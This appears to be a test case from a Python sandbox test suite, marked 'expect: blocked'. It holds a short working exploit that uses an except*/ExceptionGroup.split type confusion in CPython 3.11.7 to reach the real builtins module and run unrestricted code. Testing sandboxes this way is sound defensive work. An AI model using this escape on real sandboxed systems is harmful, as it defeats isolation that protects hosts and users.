# expect: blocked
# aim: CVE-2025-22153 / CPython gh-128049 (fixed in 3.12.9 and 3.13.2; the 3.11.7 here is affected): `except*` calls the group's own `split()` and reads the result as a 2-tuple without checking; returning the builtin `len` (a PyCFunctionObject: m_self sits where a tuple's first item would be) binds the handler's name to the real `builtins` module; the handler yields from a generator that is never resumed, so the corrupted "handled exception" never unwinds, then the real exec runs unrestricted code
# marker: ESCAPED-210-6f3b
# family: interpreter callback type confusion (except* + ExceptionGroup.split)


class Group(ExceptionGroup):
    def split(self, *args):
        return len


def grab():
    try:
        raise Group("g", [ValueError(1)])
    except* TypeError as found:
        yield found


keep = grab()
real_builtins = next(keep)
real_builtins.exec(
    'print("-".join(["ESCAPED", "210", "6f3b"]), len(().__class__.__base__.__subclasses__()))\n'
    # Leave before the suspended handler is finalised (that would crash the child).
    "import os, sys\nsys.stdout.flush()\nos._exit(0)\n",
    {"__builtins__": real_builtins},
)
